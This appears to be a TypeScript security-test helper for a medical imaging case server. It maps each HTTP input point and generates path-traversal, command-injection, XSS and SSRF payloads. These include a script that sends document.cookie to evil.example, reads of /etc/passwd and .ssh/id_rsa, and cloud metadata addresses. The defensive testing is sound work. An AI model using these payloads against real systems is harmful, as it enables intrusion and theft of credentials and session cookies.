import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { createRng } from '../../src/base/index.ts';
import { framedHead } from '../../src/server/client/index.ts';
import { receiveUpload } from '../../src/server/intake/upload.ts';
import type { Answer, furnish, House, Visitor } from './http-kit.ts';

/** Every place of the interface where a text of somebody else comes in. */

type Thing = Awaited<ReturnType<typeof furnish>>;
export interface Input {
  readonly name: string;
  /** Sends one text to this place. Nothing where the place has no answer of its own. */
  readonly send: (text: string) => Promise<Answer | undefined>;
}

const SHA = createHash('sha256').update('').digest('hex');

export function everyInput(house: House, who: Visitor, thing: Thing): Input[] {
  const { call } = house;
  const of = `/cases/${thing.id}`;
  const enc = encodeURIComponent;
  const document = (line: string) => `${thing.document}${line}\n`;
  const put = (body: object) => call(who, 'PUT', `${of}/document`, { ifRevision: 999, message: 'x', ...body });
  const header = (name: string) => (text: string) =>
    call(who, 'GET', of, undefined, { [name]: enc(text).slice(0, 2000) });
  const inputs: Record<string, Input['send']> = {
    'path case': (t) => call(who, 'GET', `/cases/${enc(t)}`),
    'path case document': (t) => call(who, 'GET', `/cases/${enc(t)}/document`),
    'path object': (t) => call(who, 'GET', `${of}/objects/${enc(t)}`),
    'path job': (t) => call(who, 'POST', `${of}/jobs/${enc(t)}/cancel`),
    'path comment': (t) => call(who, 'PATCH', `${of}/comments/${enc(t)}`, { resolved: true }),
    'path share': (t) => call(who, 'DELETE', `${of}/shares/${enc(t)}`),
    'path user': (t) => call(who, 'PATCH', `/users/${enc(t)}`, { roles: ['admin'] }),
    'path revision': (t) => call(who, 'GET', `${of}/revisions/${enc(t)}/compare/2`),
    'query revision': (t) => call(who, 'GET', `${of}/artefacts?revision=${enc(t)}`),
    page: (t) => call(who, 'GET', `/api/../${enc(t)}`),
    label: (t) => call(who, 'PATCH', of, { label: t }),
    member: (t) => call(who, 'PATCH', of, { members: [t] }),
    'document whole': (t) => put({ document: t }),
    'document scan': (t) => put({ document: document('').replace('./dicom', JSON.stringify(t)) }),
    'document edits': (t) => put({ document: document(`edits: ${JSON.stringify(t)}`) }),
    'document series': (t) => put({ document: document(`series: ${JSON.stringify(t)}`) }),
    'document key': (t) => put({ document: document(`${JSON.stringify(t)}: 1`) }),
    edits: (t) => put({ document: thing.document, edits: { edits: [{ op: t, bone: t }] } }),
    message: (t) => put({ document: thing.document, message: t }),
    command: (t) => put({ document: thing.document, command: { verb: t, [t]: t } }),
    'comment plane': (t) => call(who, 'POST', `${of}/comments`, { text: 'x', pin: { plane: t, index: 1 } }),
    'review hash': (t) =>
      call(who, 'POST', `${of}/reviews`, { meaning: 'reject', contentSha256: t, role: 'surgeon', note: t }),
    'review note': (t) =>
      call(who, 'POST', `${of}/reviews`, { meaning: 'reject', contentSha256: SHA, role: 'surgeon', note: t }),
    link: (t) => call(who, 'POST', '/session', { link: t }),
    share: (t) => call(who, 'POST', '/session', { share: t }),
    cookie: (t) => call({ cookie: enc(t).slice(0, 4000), csrf: '' }, 'GET', of),
    range: header('range'),
    'if-none-match': header('if-none-match'),
    'accept-encoding': header('accept-encoding'),
    'name in an upload': async (t) => {
      const { id, folder } = await house.services.door.receive();
      const head = framedHead(t.slice(0, 1000), 2);
      const body = Readable.from([Buffer.concat([head, Buffer.from('xy')])]);
      await receiveUpload(body, 'application/vnd.osteon.files', folder);
      await house.services.door.drop(id);
      return undefined;
    },
  };
  return Object.entries(inputs).map(([name, send]) => ({ name, send }));
}

/** Ways out of a folder, in the spellings of systems, encodings and archives. */
export function pathPayloads(count: number, outside: string): string[] {
  const ups = [
    '../',
    '..\\',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%5c',
    '..%252f',
    '..%c0%af',
    '..%u2215',
    '....//',
    '..;/',
    '.\u2024/',
    '..\u2215',
    '..\0/',
  ];
  const targets = [
    'etc/passwd',
    'windows\\win.ini',
    outside.replace(/^\//, ''),
    'vault/vault.json',
    'cases.db',
    '.ssh/id_rsa',
    'proc/self/environ',
  ];
  const starts = [
    '',
    '/',
    '//',
    'file://',
    'file:///',
    'C:\\',
    '\\\\host\\share\\',
    '~/',
    './',
    'objects/',
    '/proc/self/root/',
    'scan/dicom/',
  ];
  const ends = ['', '\0', '\0.dcm', '%00', '/', '/.', '::$DATA', '.', ' ', '?x', '#x'];
  const named = [
    'CON',
    'NUL',
    'COM1',
    'aux.dcm',
    'LPT1',
    '/dev/zero',
    '/dev/stdin',
    '.',
    '..',
    '',
    '/',
    '\\',
    '~',
    '$HOME',
    '`id`',
    '$(id)',
    '|id',
    '-o',
    '--vault',
  ];
  const rng = createRng(4711);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rng() * list.length)];
  const out = new Set<string>([...named, outside]);
  while (out.size < count) {
    const up = pick(ups);
    out.add(pick(starts) + up.repeat(Math.floor(rng() * 12)) + pick(targets) + pick(ends));
  }
  return [...out].slice(0, count);
}

/** Scripts in the spellings that have got past filters. */
export function scriptPayloads(count: number): string[] {
  const acts = [
    'alert(1)',
    'fetch("//evil.example/"+document.cookie)',
    'top[`al`+`ert`](1)',
    'import("//evil.example/x.js")',
  ];
  const frames = [
    (a: string) => `<script>${a}</script>`,
    (a: string) => `<img src=x onerror='${a}'>`,
    (a: string) => `<svg onload='${a}'>`,
    (a: string) => `<svg><animate onbegin='${a}' attributeName=x dur=1s>`,
    (a: string) => `"><body onload='${a}'>`,
    (a: string) => `javascript:${a}`,
    (a: string) => `data:text/html,<script>${a}</script>`,
    (a: string) => `<iframe srcdoc='<script>${a}</script>'>`,
    (a: string) => `<math><mtext><table><mglyph><style><img src onerror='${a}'>`,
    (a: string) => `</title><script>${a}</script>`,
    (a: string) => `{{constructor.constructor('${a}')()}}`,
    (a: string) => `<a href='javascript:${a}'>x</a>`,
    (a: string) => `<details open ontoggle='${a}'>`,
    (a: string) => `<object data='data:text/html,<script>${a}</script>'>`,
    (a: string) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${a}</x:script>`,
    (a: string) => `<!--><script>${a}</script-->`,
    (a: string) => `\ufeff<script>${a}</script>`,
    (a: string) => `+ADw-script+AD4-${a}+ADw-/script+AD4-`,
  ];
  const bends = [
    (s: string) => s,
    (s: string) => s.toUpperCase(),
    (s: string) => s.replace(/script/g, 'scr\0ipt'),
    (s: string) => s.replace(/</g, '\uff1c'),
    (s: string) => encodeURIComponent(s),
    (s: string) => s.replace(/ /g, '/'),
    (s: string) => s.replace(/</g, '%3C'),
    (s: string) => `%0d%0aContent-Type: text/html%0d%0a%0d%0a${s}`,
  ];
  const out: string[] = [];
  for (const bend of bends) for (const frame of frames) for (const act of acts) out.push(bend(frame(act)));
  return out.slice(0, count);
}

/** Addresses that have fooled filters of addresses. */
export function addressPayloads(): string[] {
  const hosts = [
    '127.0.0.1',
    'localhost',
    '0.0.0.0',
    '0',
    '127.1',
    '2130706433',
    '0x7f000001',
    '017700000001',
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:ffff:7f00:1]',
    '169.254.169.254',
    '[fd00:ec2::254]',
    'metadata.google.internal',
    '10.0.0.1',
    '192.168.0.1',
    '172.16.0.1',
    'evil.example',
    'evil.example.',
    'localtest.me',
    '127.0.0.1.nip.io',
    'user:pass@evil.example',
    '127.0.0.1:8420@evil.example',
    'evil.example#@127.0.0.1:8420',
    '127.0.0.1:22',
    '\u2460\u2461\u2466.\u24ea.\u24ea.\u2460',
    '127\u3002\u0030\u3002\u0030\u30021',
    'evil.example%2f@127.0.0.1',
    'evil.example\\@127.0.0.1',
  ];
  const addresses = hosts.map((host) => `http://${host}/`);
  const schemes = [
    'https',
    'ftp',
    'gopher',
    'dict',
    'ldap',
    'tftp',
    'sftp',
    'jar',
    'ws',
    'wss',
    's3',
    'smb',
    'postgres',
    'redis',
    'dicom',
    'data',
    'netdoc',
    'view-source',
  ].map((scheme) => `${scheme}://evil.example/x`);
  const others = [
    'file:///etc/passwd',
    '//evil.example/x',
    '\\\\evil.example\\share',
    'http:evil.example',
    'http:/\\evil.example',
    'HTTP://EVIL.EXAMPLE/',
    ' http://evil.example',
    'http://evil.example/redirect?to=http://127.0.0.1/',
    'http://evil.example\r\nHost: 127.0.0.1',
    'http://evil.example:80/%0d%0aX: y',
    'blob:http://evil.example/x',
    'node:child_process',
  ];
  return [...addresses, ...schemes, ...others];
}
